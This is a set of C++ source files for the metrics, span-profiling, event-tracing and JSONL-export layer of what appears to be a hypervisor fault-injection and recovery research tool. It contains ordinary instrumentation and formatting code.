       << ",\"cells_done\":" << status.worker_heartbeat[w] << '}';
  }
  os << "]},\"checker\":{\"active\":"
     << (status.checker_active ? "true" : "false")
     << ",\"depth\":" << status.checker_depth
     << ",\"frontier\":" << status.checker_frontier
     << ",\"states_explored\":" << status.checker_states
     << ",\"violations\":" << status.checker_violations << "}}";
  return os.str();
}

namespace {

// Prometheus metric names allow [a-zA-Z_:][a-zA-Z0-9_:]*.
std::string sanitize_metric_name(const std::string& name) {
  std::string out;
  out.reserve(name.size());
  for (const char c : name) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                    (c >= '0' && c <= '9' && !out.empty()) || c == '_' ||
                    c == ':';
    out += ok ? c : '_';
  }
  return out.empty() ? std::string{"_"} : out;
}

void gauge(std::ostringstream& os, const char* name, const char* help,
           std::uint64_t value, const char* type = "gauge") {
  os << "# HELP " << name << ' ' << help << '\n';
  os << "# TYPE " << name << ' ' << type << '\n';
  os << name << ' ' << value << '\n';
}

}  // namespace

std::string render_prometheus(const StatusSnapshot& status,
                              const MetricsSnapshot* metrics) {
  std::ostringstream os;
  gauge(os, "ii_campaign_active", "1 while a campaign run is in progress",
        status.campaign_active ? 1 : 0);
  gauge(os, "ii_campaign_cells_total", "cells in the campaign matrix",
        status.cells_total);
  gauge(os, "ii_campaign_cells_done", "cells finished so far",
        status.cells_done);
  gauge(os, "ii_campaign_cells_failed", "cells that ended in failure",
        status.cells_failed);
  gauge(os, "ii_campaign_retries_total", "cell attempts beyond the first",
        status.retries, "counter");
  gauge(os, "ii_campaign_quarantined_total", "cells quarantined",
        status.quarantined, "counter");
  gauge(os, "ii_campaign_recovered_total", "cells recovered by ReHype",
        status.recovered, "counter");
  if (!status.worker_heartbeat.empty()) {
    os << "# HELP ii_worker_cells_done cells finished per worker\n";
    os << "# TYPE ii_worker_cells_done counter\n";
    for (std::size_t w = 0; w < status.worker_heartbeat.size(); ++w) {
      os << "ii_worker_cells_done{worker=\"" << w << "\"} "
         << status.worker_heartbeat[w] << '\n';
    }
  }
  gauge(os, "ii_checker_active", "1 while a model check is in progress",
        status.checker_active ? 1 : 0);
  gauge(os, "ii_checker_depth", "current exploration depth",
        status.checker_depth);
  gauge(os, "ii_checker_frontier", "states in the current frontier",
        status.checker_frontier);
  gauge(os, "ii_checker_states_explored", "unique states explored",
        status.checker_states);
  gauge(os, "ii_checker_violations", "invariant violations found",
        status.checker_violations);

  if (metrics != nullptr) {
    for (const auto& [name, value] : metrics->counters) {
      const std::string n = "ii_" + sanitize_metric_name(name);
      os << "# TYPE " << n << " counter\n" << n << ' ' << value << '\n';
    }
    for (const auto& [name, data] : metrics->histograms) {
      const std::string n = "ii_" + sanitize_metric_name(name);
      os << "# TYPE " << n << " histogram\n";
      std::uint64_t cum = 0;
      for (std::size_t i = 0; i < data.buckets.size(); ++i) {
        cum += data.buckets[i];
        os << n << "_bucket{le=\"";
        if (i < data.bounds.size()) {
          os << data.bounds[i];
        } else {
          os << "+Inf";
        }
        os << "\"} " << cum << '\n';
      }
      os << n << "_sum " << data.sum << '\n';
      os << n << "_count " << data.count << '\n';
    }
  }
  return os.str();
}

}  // namespace ii::obs
