// Deterministic hierarchical span profiler.
//
// The trace layer (obs/trace.hpp) answers "what happened"; this module
// answers "where did the work go". A SpanProfiler aggregates named, nested
// phases — checker depths, campaign cell stages, recovery steps — into a
// tree of (count, steps, wall) triples with a *dual clock* design:
//
//   step clock   deterministic work units supplied by the instrumentation
//                site (ops applied, states audited, trace-sink steps,
//                frames copied). Counts and steps are pure functions of the
//                workload, so the deterministic render is byte-identical at
//                any worker count — cmp-gateable exactly like the model
//                checker's report.
//   wall clock   real elapsed time, collected alongside but kept
//                *out-of-band*: it appears only in the wall render, the
//                JSONL export and the Chrome trace, never in the
//                deterministic profile.
//
// Spans are Det or Sched. Det spans live on the logical execution path and
// carry thread-count-independent counts/steps (the serial checker and the
// sharded checker account the same expand/audit work). Sched spans are
// engine mechanics — the sharded checker's produce/admit/settle/spill
// phases, per-worker drains — whose very existence depends on --threads;
// they are excluded from the deterministic render and shown only with wall
// data (the same split as render_report vs render_engine_stats).
//
// Cost model, inherited from TraceSink: every instrumentation site is a
// single `if (profiler)` branch when no profiler is attached; a ScopedSpan
// constructed with a null profiler reads no clock and touches no memory.
// A profiler instance is single-writer (one per cell / per worker, like
// trace sinks); per-worker profilers merge deterministically by path.
#pragma once

#include <chrono>
#include <cstdint>
#include <initializer_list>
#include <map>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "obs/trace.hpp"

namespace ii::obs {

/// Whether a span's count/steps are deterministic (logical work, identical
/// at any thread count) or scheduling-dependent engine detail.
enum class SpanKind : std::uint8_t { Det, Sched };

// ----------------------------------------------------- span name registry
//
// Every span name used by instrumentation sites is a named constant here,
// and every constant appears in the render-name table in span.cpp
// (span_name_description) — enforced by ii-lint rule span-render-name.
// Dynamic segments (the checker's per-depth "d1", "d2", ... nodes) are the
// deliberate exception: they are data, not vocabulary.

// Model checker (src/analysis). expand/audit are the deterministic
// logical-work spans; produce/admit/settle/spill are the single-pass
// owner-computes engine's Sched-kind phases (DESIGN.md §16).
inline constexpr std::string_view kSpanCheck = "check";
inline constexpr std::string_view kSpanExpand = "expand";
inline constexpr std::string_view kSpanAudit = "audit";
inline constexpr std::string_view kSpanProduce = "produce";
inline constexpr std::string_view kSpanAdmit = "admit";
inline constexpr std::string_view kSpanSettle = "settle";
inline constexpr std::string_view kSpanSpill = "spill";

// Campaign cell lifecycle (src/core/campaign.cpp).
inline constexpr std::string_view kSpanCell = "cell";
inline constexpr std::string_view kSpanAcquire = "acquire";
inline constexpr std::string_view kSpanRestore = "restore";
inline constexpr std::string_view kSpanInject = "inject";
inline constexpr std::string_view kSpanMonitor = "monitor";
inline constexpr std::string_view kSpanRecover = "recover";

// Campaign supervisor (src/core/supervisor.cpp).
inline constexpr std::string_view kSpanSupervisor = "supervisor";
inline constexpr std::string_view kSpanRetry = "retry";
inline constexpr std::string_view kSpanQuarantine = "quarantine";
inline constexpr std::string_view kSpanJournal = "journal";
/// Chaos-engine fault handling (worker crash re-claims, stall spins).
/// Always SpanKind::Sched: which worker absorbs a fault is scheduling,
/// so these must stay out of the deterministic render.
inline constexpr std::string_view kSpanChaos = "chaos";

// ReHype recovery phases (src/hv/recovery.cpp), nested under cell/recover
// when the campaign drives recovery.
inline constexpr std::string_view kSpanPreAudit = "pre_audit";
inline constexpr std::string_view kSpanIdt = "idt";
inline constexpr std::string_view kSpanFrameTable = "frame_table";
inline constexpr std::string_view kSpanP2m = "p2m";
inline constexpr std::string_view kSpanDomains = "domains";
inline constexpr std::string_view kSpanGrants = "grants";
inline constexpr std::string_view kSpanPostAudit = "post_audit";

// Coverage-guided sequence fuzzer (src/core/fuzz.cpp). exec/minimize carry
// deterministic step counts (ops applied); corpus_io wraps trace-file
// persistence.
inline constexpr std::string_view kSpanFuzz = "fuzz";
inline constexpr std::string_view kSpanFuzzExec = "exec";
inline constexpr std::string_view kSpanFuzzMinimize = "minimize";
inline constexpr std::string_view kSpanFuzzCorpus = "corpus_io";

/// One-line description of a registered span name (the render-name table);
/// empty for unregistered/dynamic names.
[[nodiscard]] std::string_view span_name_description(std::string_view name);

/// All registered span names, for tooling and the lint rule's tests.
[[nodiscard]] std::vector<std::string_view> registered_span_names();

// ------------------------------------------------------------------- tree

/// One aggregated node of the span tree. `steps` and `wall_ns` are *self*
/// contributions for steps (children accounted separately) but *inclusive*
/// for wall (a ScopedSpan times everything nested inside it).
struct SpanNode {
  std::string name;
  SpanKind kind = SpanKind::Det;
  std::uint64_t count = 0;    ///< times the span was entered / occurrences
  std::uint64_t steps = 0;    ///< deterministic self work units
  std::uint64_t wall_ns = 0;  ///< out-of-band inclusive elapsed time
  std::map<std::string, std::unique_ptr<SpanNode>, std::less<>> children;

  /// steps plus every descendant's steps. With `include_sched` false,
  /// Sched subtrees are excluded — the roll-up the deterministic render
  /// uses, so engine-mechanics accounting can never leak into a
  /// cmp-gated column.
  [[nodiscard]] std::uint64_t total_steps(bool include_sched = true) const;
};

/// One completed span instance, recorded only when event capture is on —
/// the raw material of the Chrome trace export.
struct SpanEvent {
  std::string path;  ///< "check/d1/classify"
  SpanKind kind = SpanKind::Det;
  std::uint32_t tid = 0;        ///< worker lane
  std::uint64_t ts_us = 0;      ///< start, µs since the profiler epoch
  std::uint64_t dur_us = 0;
  std::uint64_t steps = 0;      ///< deterministic steps inside this instance
};

class SpanProfiler {
 public:
  // ii-analyze:allow(determinism): the wall-clock columns this clock feeds
  // are SpanKind::Sched-gated and excluded from the deterministic render
  // (DESIGN.md §13); the byte-identical profile counts steps, not time.
  using Clock = std::chrono::steady_clock;

  /// Profilers that will be merged (per-worker instances) should share one
  /// epoch so their Chrome-trace timestamps are comparable.
  explicit SpanProfiler(Clock::time_point epoch = Clock::now())
      : epoch_{epoch} {}

  SpanProfiler(const SpanProfiler&) = delete;
  SpanProfiler& operator=(const SpanProfiler&) = delete;

  [[nodiscard]] Clock::time_point epoch() const { return epoch_; }

  /// Worker lane stamped on recorded events.
  void set_tid(std::uint32_t tid) { tid_ = tid; }
  [[nodiscard]] std::uint32_t tid() const { return tid_; }
  /// Record one SpanEvent per completed ScopedSpan (off by default; the
  /// aggregate tree is always maintained).
  void set_record_events(bool on) { record_events_ = on; }
  [[nodiscard]] bool record_events() const { return record_events_; }

  // Cursor interface (used by ScopedSpan; usable directly).
  /// Descend into (creating if absent) the named child of the current span.
  void enter(std::string_view name, SpanKind kind = SpanKind::Det);
  /// Resolve `path` from the root and make its leaf the current span. Only
  /// the leaf's count is incremented. Returns a cursor mark for exit_to.
  std::size_t enter_path(std::initializer_list<std::string_view> path,
                         SpanKind kind = SpanKind::Det);
  /// Pop one level.
  void exit();
  /// Pop to a mark previously returned by enter_path / cursor_mark.
  void exit_to(std::size_t mark);
  [[nodiscard]] std::size_t cursor_mark() const { return stack_.size(); }

  /// Add deterministic work units to the current span.
  void add_steps(std::uint64_t n);
  /// Add out-of-band wall time to the current span.
  void add_wall_ns(std::uint64_t ns);

  /// Record counts/steps at an absolute path without moving the cursor —
  /// the clock-free accounting used on deterministic logical paths.
  void add(std::initializer_list<std::string_view> path, std::uint64_t count,
           std::uint64_t steps, SpanKind kind = SpanKind::Det);

  /// Full path of the current span ("a/b/c"; empty at the root).
  [[nodiscard]] std::string current_path() const;

  [[nodiscard]] const SpanNode& root() const { return root_; }
  [[nodiscard]] const std::vector<SpanEvent>& events() const {
    return events_;
  }
  void record_event(SpanEvent event) { events_.push_back(std::move(event)); }

  /// Fold `other`'s tree (summing by path; Sched taints kind) and append
  /// its events. Merging per-worker profilers in any order produces the
  /// same tree: sums commute and rendering iterates sorted maps.
  void merge(const SpanProfiler& other);

  /// Drop all aggregated data and events (the cursor must be at the root).
  void reset();

 private:
  SpanNode* node_at(std::initializer_list<std::string_view> path,
                    SpanKind kind);

  SpanNode root_;
  std::vector<SpanNode*> stack_;  ///< cursor: root_ excluded, leaf at back
  std::vector<SpanEvent> events_;
  Clock::time_point epoch_;
  std::uint32_t tid_ = 0;
  bool record_events_ = false;
};

/// RAII span: enters on construction, accumulates inclusive wall time (and
/// a SpanEvent when capture is on) on destruction. With a null profiler
/// every member is a no-op and no clock is read. When `step_source` is
/// given, the sink's emitted-count delta over the span's lifetime is added
/// as steps — deterministic, and exception-safe (the delta is captured in
/// the destructor, so a throwing span still accounts its work).
class ScopedSpan {
 public:
  ScopedSpan(SpanProfiler* profiler, std::string_view name,
             SpanKind kind = SpanKind::Det,
             const TraceSink* step_source = nullptr);
  ScopedSpan(SpanProfiler* profiler,
             std::initializer_list<std::string_view> path,
             SpanKind kind = SpanKind::Det,
             const TraceSink* step_source = nullptr);
  ~ScopedSpan();

  ScopedSpan(const ScopedSpan&) = delete;
  ScopedSpan& operator=(const ScopedSpan&) = delete;

  /// Add deterministic steps to this span.
  void add_steps(std::uint64_t n);

  /// Finalize now instead of at destruction (idempotent) — for phases
  /// whose lexical scope outlives the timed region.
  void end();

 private:
  void begin(SpanKind kind, const TraceSink* step_source);

  SpanProfiler* profiler_;
  const TraceSink* step_source_ = nullptr;
  std::uint64_t start_sink_steps_ = 0;
  std::uint64_t span_steps_ = 0;
  std::size_t mark_ = 0;
  SpanKind kind_ = SpanKind::Det;
  SpanProfiler::Clock::time_point start_{};
  /// Root-absolute path of this span's node, captured only while event
  /// recording is on. The cursor stack cannot supply it: a ScopedSpan
  /// opened with an absolute path inside an open span would render with
  /// the outer prefix doubled.
  std::string path_;
};

// ---------------------------------------------------------------- renders

/// Aggregated span tree as a fixed-width indented table. With
/// `include_wall` false (the default): deterministic — Det nodes only,
/// columns count / total steps / self steps, byte-identical at any worker
/// count. With `include_wall` true: every node plus a wall-µs column
/// (scheduling-dependent; keep it out of cmp gates).
[[nodiscard]] std::string render_profile(const SpanProfiler& profiler,
                                         bool include_wall = false);

/// Chrome trace-event JSON (chrome://tracing, Perfetto, speedscope). One
/// complete ("ph":"X") event per recorded span instance, µs timestamps
/// from the shared epoch, one lane per tid. Requires
/// set_record_events(true) during the run; returns an empty array
/// otherwise.
[[nodiscard]] std::string chrome_trace_json(const SpanProfiler& profiler);

}  // namespace ii::obs
