// Event tracing, modeled on Xen's xentrace: a bounded ring buffer of typed
// trace events with per-domain attribution and a monotonic sequence counter.
//
// Determinism is a design constraint: events carry *no wall clock*, only a
// per-sink sequence number, so two runs of the same campaign cell produce
// byte-identical traces regardless of host load or thread placement. The
// campaign engine gives every cell its own TraceSink (one hypervisor, one
// sink, one thread), which is what keeps the ring lock-free: there is never
// a concurrent writer, and run_parallel merges per-cell traces back in
// deterministic cell order.
//
// Cost model: every instrumentation site in the hypervisor/simulator is a
// single `if (sink)` branch when no sink is attached — the zero-
// instrumentation configuration every test and benchmark runs in unless it
// opts in.
#pragma once

#include <array>
#include <cstdint>
#include <stdexcept>
#include <string>
#include <vector>

namespace ii::obs {

/// What kind of event a TraceEvent records. Mirrors xentrace's event
/// classes, specialized to the surfaces this reproduction instruments.
enum class TraceCategory : std::uint8_t {
  HypercallEnter,  ///< numbered hypercall dispatched (code = nr)
  HypercallExit,   ///< numbered hypercall returned (code = nr, rc = status)
  MmuWalk,         ///< software-MMU walk faulted (code = FaultReason, addr = va)
  PageFault,       ///< exception dispatched through the IDT (code = vector)
  PageTypeGet,     ///< frame type reference acquired (code = PageType, addr = mfn)
  PageTypePut,     ///< frame type reference dropped (code = PageType, addr = mfn)
  Panic,           ///< hypervisor panic (host crash)
  CpuHang,         ///< watchdog-detected livelocked CPU
  Injection,       ///< HYPERVISOR_arbitrary_access performed (addr = target)
  GrantOp,         ///< grant-table operation (code = sub-op)
  EventChannel,    ///< event-channel operation (code = sub-op)
  RecoverEnter,    ///< ReHype-style recovery started (code = bit0 panic, bit1 hang)
  RecoverExit,     ///< recovery finished (rc = 0 iff the post-audit is clean)
  InvariantViolation,  ///< invariant auditor finding (code = hv::Invariant)
};

inline constexpr std::size_t kCategoryCount = 14;

[[nodiscard]] std::string to_string(TraceCategory category);

/// Bit for `category` in a category mask.
[[nodiscard]] constexpr std::uint32_t category_bit(TraceCategory category) {
  return 1u << static_cast<unsigned>(category);
}

inline constexpr std::uint32_t kAllCategories =
    (1u << kCategoryCount) - 1;

/// Domain attribution for events raised outside any domain context
/// (hypervisor-internal work, MMU walks).
inline constexpr std::uint16_t kNoDomain = 0xFFFF;

/// One trace record. Fixed-size and trivially copyable so the ring is a
/// flat array; the meaning of `code`/`rc`/`addr` depends on the category
/// (see TraceCategory).
struct TraceEvent {
  std::uint64_t seq = 0;      ///< per-sink monotonic sequence number
  TraceCategory category{};
  std::uint16_t domain = kNoDomain;
  std::uint32_t code = 0;
  std::int64_t rc = 0;
  std::uint64_t addr = 0;
};

/// Thrown by TraceSink::emit when a cell budget is exhausted. The campaign
/// supervisor's deterministic watchdog: budgets count trace steps, which
/// carry no wall clock, so the same cell trips (or doesn't) identically on
/// every run and every thread count.
class BudgetExceededError : public std::runtime_error {
 public:
  using std::runtime_error::runtime_error;
};

/// Bounded ring of TraceEvents. Overflow overwrites the oldest record, like
/// xentrace's per-cpu buffers; `overwritten()` reports how many were lost.
class TraceRing {
 public:
  explicit TraceRing(std::size_t capacity);

  [[nodiscard]] std::size_t capacity() const { return buf_.size(); }
  /// Events currently held (≤ capacity).
  [[nodiscard]] std::size_t size() const;
  /// Total events ever pushed, including overwritten ones.
  [[nodiscard]] std::uint64_t recorded() const { return total_; }
  [[nodiscard]] std::uint64_t overwritten() const;

  void push(const TraceEvent& event);
  void clear();

  /// Held events, oldest first.
  [[nodiscard]] std::vector<TraceEvent> snapshot() const;

 private:
  std::vector<TraceEvent> buf_;
  std::uint64_t total_ = 0;
};

/// The attachment point instrumented code writes to. Owns the ring, the
/// sequence counter, and cheap always-on aggregate counters (per category
/// and per hypercall number) so callers get counts even with an empty
/// category mask.
class TraceSink {
 public:
  static constexpr std::size_t kDefaultCapacity = 4096;
  /// Per-nr hypercall counters cover the classic table plus the vacant
  /// slots the injector patch occupies (all < 64).
  static constexpr unsigned kMaxHypercallNr = 64;

  explicit TraceSink(std::size_t capacity = kDefaultCapacity,
                     std::uint32_t category_mask = kAllCategories);

  void set_category_mask(std::uint32_t mask) { mask_ = mask; }
  [[nodiscard]] std::uint32_t category_mask() const { return mask_; }

  /// Arm the deterministic watchdog: emit() throws BudgetExceededError once
  /// more than `max_hypercalls` HypercallEnter events or `max_steps` total
  /// events have been recorded (0 disables a cap). The budget is enforced
  /// *after* the offending event is counted, so the trace still shows it.
  void set_budget(std::uint64_t max_hypercalls, std::uint64_t max_steps) {
    hypercall_budget_ = max_hypercalls;
    step_budget_ = max_steps;
  }

  /// Record one event: assigns the next sequence number, bumps the
  /// aggregate counters, and pushes into the ring iff the category is in
  /// the mask. The sequence counter advances for every emit (masked or
  /// not) so counts and sequences stay comparable across masks.
  void emit(TraceCategory category, std::uint16_t domain,
            std::uint32_t code = 0, std::int64_t rc = 0,
            std::uint64_t addr = 0);

  [[nodiscard]] std::uint64_t emitted() const { return seq_; }
  [[nodiscard]] std::uint64_t count(TraceCategory category) const {
    return by_category_[static_cast<std::size_t>(category)];
  }
  [[nodiscard]] std::uint64_t hypercall_count(unsigned nr) const {
    return nr < kMaxHypercallNr ? by_hypercall_[nr] : 0;
  }
  [[nodiscard]] const std::array<std::uint64_t, kMaxHypercallNr>&
  hypercall_counts() const {
    return by_hypercall_;
  }

  [[nodiscard]] TraceRing& ring() { return ring_; }
  [[nodiscard]] const TraceRing& ring() const { return ring_; }

 private:
  TraceRing ring_;
  std::uint32_t mask_;
  std::uint64_t seq_ = 0;
  std::uint64_t hypercall_budget_ = 0;
  std::uint64_t step_budget_ = 0;
  std::array<std::uint64_t, kCategoryCount> by_category_{};
  std::array<std::uint64_t, kMaxHypercallNr> by_hypercall_{};
};

}  // namespace ii::obs
