#include "obs/metrics.hpp"

#include <algorithm>
#include <stdexcept>

namespace ii::obs {

Histogram::Histogram(std::vector<std::uint64_t> bounds)
    : bounds_{std::move(bounds)}, buckets_(bounds_.size() + 1, 0) {
  if (!std::is_sorted(bounds_.begin(), bounds_.end()) ||
      std::adjacent_find(bounds_.begin(), bounds_.end()) != bounds_.end()) {
    throw std::invalid_argument{"Histogram bounds must be strictly ascending"};
  }
}

std::vector<std::uint64_t> Histogram::exponential_bounds(std::uint64_t first,
                                                         std::uint64_t factor,
                                                         std::size_t count) {
  std::vector<std::uint64_t> bounds;
  bounds.reserve(count);
  std::uint64_t b = first;
  for (std::size_t i = 0; i < count; ++i) {
    bounds.push_back(b);
    b *= factor;
  }
  return bounds;
}

void Histogram::record(std::uint64_t value) {
  const auto it = std::lower_bound(bounds_.begin(), bounds_.end(), value);
  ++buckets_[static_cast<std::size_t>(it - bounds_.begin())];
  ++count_;
  sum_ += value;
  if (count_ == 1 || value < min_) min_ = value;
  if (value > max_) max_ = value;
}

void Histogram::merge(const Histogram& other) {
  if (other.bounds_ != bounds_) {
    throw std::invalid_argument{"Histogram::merge bounds mismatch"};
  }
  merge_parts(other.buckets_, other.count_, other.sum_, other.min(),
              other.max());
}

void Histogram::merge_parts(const std::vector<std::uint64_t>& buckets,
                            std::uint64_t count, std::uint64_t sum,
                            std::uint64_t min, std::uint64_t max) {
  if (buckets.size() != buckets_.size()) {
    throw std::invalid_argument{"Histogram::merge_parts bucket count mismatch"};
  }
  if (count == 0) return;
  for (std::size_t i = 0; i < buckets_.size(); ++i) buckets_[i] += buckets[i];
  if (count_ == 0 || min < min_) min_ = min;
  if (max > max_) max_ = max;
  count_ += count;
  sum_ += sum;
}

double Histogram::percentile(double p) const {
  if (count_ == 0) return 0.0;
  p = std::clamp(p, 0.0, 1.0);
  const double target = p * static_cast<double>(count_);
  std::uint64_t cum = 0;
  for (std::size_t i = 0; i < buckets_.size(); ++i) {
    if (buckets_[i] == 0) continue;
    const std::uint64_t prev = cum;
    cum += buckets_[i];
    if (static_cast<double>(cum) < target) continue;
    // Interpolate within [lo, hi] of the containing bucket, clamped to the
    // observed extremes so estimates never leave [min, max].
    const double lo =
        std::max(i == 0 ? static_cast<double>(min_)
                        : static_cast<double>(bounds_[i - 1]),
                 static_cast<double>(min_));
    const double hi =
        std::min(i < bounds_.size() ? static_cast<double>(bounds_[i])
                                    : static_cast<double>(max_),
                 static_cast<double>(max_));
    const double frac =
        (target - static_cast<double>(prev)) / static_cast<double>(buckets_[i]);
    return lo + (hi - lo) * std::clamp(frac, 0.0, 1.0);
  }
  return static_cast<double>(max_);
}

Counter& MetricsRegistry::counter(const std::string& name) {
  return counters_[name];
}

Histogram& MetricsRegistry::histogram(const std::string& name,
                                      std::vector<std::uint64_t> bounds) {
  auto it = histograms_.find(name);
  if (it == histograms_.end()) {
    it = histograms_.emplace(name, Histogram{std::move(bounds)}).first;
  }
  return it->second;
}

MetricsSnapshot MetricsRegistry::snapshot() const {
  MetricsSnapshot snap;
  for (const auto& [name, c] : counters_) snap.counters[name] = c.value();
  for (const auto& [name, h] : histograms_) {
    MetricsSnapshot::HistogramData data;
    data.bounds = h.bounds();
    data.buckets = h.buckets();
    data.count = h.count();
    data.sum = h.sum();
    data.min = h.min();
    data.max = h.max();
    data.p50 = h.percentile(0.50);
    data.p95 = h.percentile(0.95);
    data.p99 = h.percentile(0.99);
    snap.histograms[name] = std::move(data);
  }
  return snap;
}

void MetricsRegistry::merge(const MetricsSnapshot& other) {
  for (const auto& [name, value] : other.counters) {
    counters_[name].inc(value);
  }
  for (const auto& [name, data] : other.histograms) {
    Histogram& h = histogram(name, data.bounds);
    if (h.bounds() == data.bounds) {
      // Exact bucket-wise fold: O(buckets) regardless of sample count, and
      // count/sum/min/max/percentile inputs are preserved precisely, so
      // merging per-worker histograms in any order yields one deterministic
      // aggregate.
      h.merge_parts(data.buckets, data.count, data.sum, data.min, data.max);
    } else {
      // Bounds mismatch: fold everything into the mean as a best effort.
      for (std::uint64_t n = 0; n < data.count; ++n) {
        h.record(data.count ? data.sum / data.count : 0);
      }
    }
  }
}

MetricsSnapshot sink_metrics(const TraceSink& sink) {
  MetricsSnapshot snap;
  for (std::size_t c = 0; c < kCategoryCount; ++c) {
    const auto cat = static_cast<TraceCategory>(c);
    if (sink.count(cat) != 0) {
      snap.counters["trace." + to_string(cat)] = sink.count(cat);
    }
  }
  for (unsigned nr = 0; nr < TraceSink::kMaxHypercallNr; ++nr) {
    if (sink.hypercall_count(nr) != 0) {
      snap.counters["hypercall.nr" + std::to_string(nr)] =
          sink.hypercall_count(nr);
    }
  }
  return snap;
}

}  // namespace ii::obs
