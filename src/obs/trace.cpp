#include "obs/trace.hpp"

namespace ii::obs {

std::string to_string(TraceCategory category) {
  switch (category) {
    case TraceCategory::HypercallEnter: return "hypercall_enter";
    case TraceCategory::HypercallExit: return "hypercall_exit";
    case TraceCategory::MmuWalk: return "mmu_walk";
    case TraceCategory::PageFault: return "page_fault";
    case TraceCategory::PageTypeGet: return "page_type_get";
    case TraceCategory::PageTypePut: return "page_type_put";
    case TraceCategory::Panic: return "panic";
    case TraceCategory::CpuHang: return "cpu_hang";
    case TraceCategory::Injection: return "injection";
    case TraceCategory::GrantOp: return "grant_op";
    case TraceCategory::EventChannel: return "event_channel";
    case TraceCategory::RecoverEnter: return "recover_enter";
    case TraceCategory::RecoverExit: return "recover_exit";
    case TraceCategory::InvariantViolation: return "invariant_violation";
  }
  return "unknown";
}

TraceRing::TraceRing(std::size_t capacity)
    : buf_(capacity == 0 ? 1 : capacity) {}

std::size_t TraceRing::size() const {
  return total_ < buf_.size() ? static_cast<std::size_t>(total_)
                              : buf_.size();
}

std::uint64_t TraceRing::overwritten() const {
  return total_ > buf_.size() ? total_ - buf_.size() : 0;
}

void TraceRing::push(const TraceEvent& event) {
  buf_[static_cast<std::size_t>(total_ % buf_.size())] = event;
  ++total_;
}

void TraceRing::clear() { total_ = 0; }

std::vector<TraceEvent> TraceRing::snapshot() const {
  std::vector<TraceEvent> out;
  const std::size_t n = size();
  out.reserve(n);
  const std::uint64_t first = total_ - n;
  for (std::uint64_t i = first; i < total_; ++i) {
    out.push_back(buf_[static_cast<std::size_t>(i % buf_.size())]);
  }
  return out;
}

TraceSink::TraceSink(std::size_t capacity, std::uint32_t category_mask)
    : ring_{capacity}, mask_{category_mask} {}

void TraceSink::emit(TraceCategory category, std::uint16_t domain,
                     std::uint32_t code, std::int64_t rc,
                     std::uint64_t addr) {
  const std::uint64_t seq = seq_++;
  ++by_category_[static_cast<std::size_t>(category)];
  if (category == TraceCategory::HypercallEnter && code < kMaxHypercallNr) {
    ++by_hypercall_[code];
  }
  if ((mask_ & category_bit(category)) != 0) {
    ring_.push(TraceEvent{seq, category, domain, code, rc, addr});
  }
  if (step_budget_ != 0 && seq_ > step_budget_) {
    throw BudgetExceededError{"cell step budget exceeded (" +
                              std::to_string(step_budget_) + " trace steps)"};
  }
  if (hypercall_budget_ != 0 &&
      by_category_[static_cast<std::size_t>(TraceCategory::HypercallEnter)] >
          hypercall_budget_) {
    throw BudgetExceededError{"cell hypercall budget exceeded (" +
                              std::to_string(hypercall_budget_) +
                              " hypercalls)"};
  }
}

}  // namespace ii::obs
