#include "obs/jsonl.hpp"

#include <cstdio>
#include <ostream>
#include <sstream>

namespace ii::obs {

std::string json_escape(const std::string& s) {
  std::string out;
  out.reserve(s.size());
  for (const char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x", c);
          out += buf;
        } else {
          out += c;
        }
    }
  }
  return out;
}

std::string event_jsonl(const TraceEvent& event, const std::string& cell) {
  std::ostringstream os;
  os << "{\"type\":\"trace\"";
  if (!cell.empty()) os << ",\"cell\":\"" << json_escape(cell) << '"';
  os << ",\"seq\":" << event.seq << ",\"cat\":\""
     << to_string(event.category) << '"';
  if (event.domain != kNoDomain) os << ",\"dom\":" << event.domain;
  os << ",\"code\":" << event.code << ",\"rc\":" << event.rc;
  if (event.addr != 0) {
    char buf[32];
    std::snprintf(buf, sizeof buf, "%llx",
                  static_cast<unsigned long long>(event.addr));
    os << ",\"addr\":\"0x" << buf << '"';
  }
  os << '}';
  return os.str();
}

std::string metrics_jsonl(const MetricsSnapshot& snapshot) {
  std::ostringstream os;
  os << "{\"type\":\"metrics\",\"counters\":{";
  bool first = true;
  for (const auto& [name, value] : snapshot.counters) {
    if (!first) os << ',';
    first = false;
    os << '"' << json_escape(name) << "\":" << value;
  }
  os << "},\"histograms\":{";
  first = true;
  for (const auto& [name, h] : snapshot.histograms) {
    if (!first) os << ',';
    first = false;
    os << '"' << json_escape(name) << "\":{\"count\":" << h.count
       << ",\"sum\":" << h.sum << ",\"min\":" << h.min << ",\"max\":" << h.max
       << ",\"p50\":" << h.p50 << ",\"p95\":" << h.p95 << ",\"p99\":" << h.p99
       << '}';
  }
  os << "}}";
  return os.str();
}

void write_event(std::ostream& os, const TraceEvent& event,
                 const std::string& cell) {
  os << event_jsonl(event, cell) << '\n';
}

void write_events(std::ostream& os, std::span<const TraceEvent> events,
                  const std::string& cell) {
  for (const TraceEvent& event : events) write_event(os, event, cell);
}

void write_metrics(std::ostream& os, const MetricsSnapshot& snapshot) {
  os << metrics_jsonl(snapshot) << '\n';
}

}  // namespace ii::obs
