#include "obs/jsonl.hpp"

#include <cstdio>
#include <ostream>
#include <sstream>

namespace ii::obs {

std::string json_escape(const std::string& s) {
  std::string out;
  out.reserve(s.size());
  for (const char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x", c);
          out += buf;
        } else {
          out += c;
        }
    }
  }
  return out;
}

std::string event_jsonl(const TraceEvent& event, const std::string& cell) {
  std::ostringstream os;
  os << "{\"type\":\"trace\"";
  if (!cell.empty()) os << ",\"cell\":\"" << json_escape(cell) << '"';
  os << ",\"seq\":" << event.seq << ",\"cat\":\""
     << to_string(event.category) << '"';
  if (event.domain != kNoDomain) os << ",\"dom\":" << event.domain;
  os << ",\"code\":" << event.code << ",\"rc\":" << event.rc;
  if (event.addr != 0) {
    char buf[32];
    std::snprintf(buf, sizeof buf, "%llx",
                  static_cast<unsigned long long>(event.addr));
    os << ",\"addr\":\"0x" << buf << '"';
  }
  os << '}';
  return os.str();
}

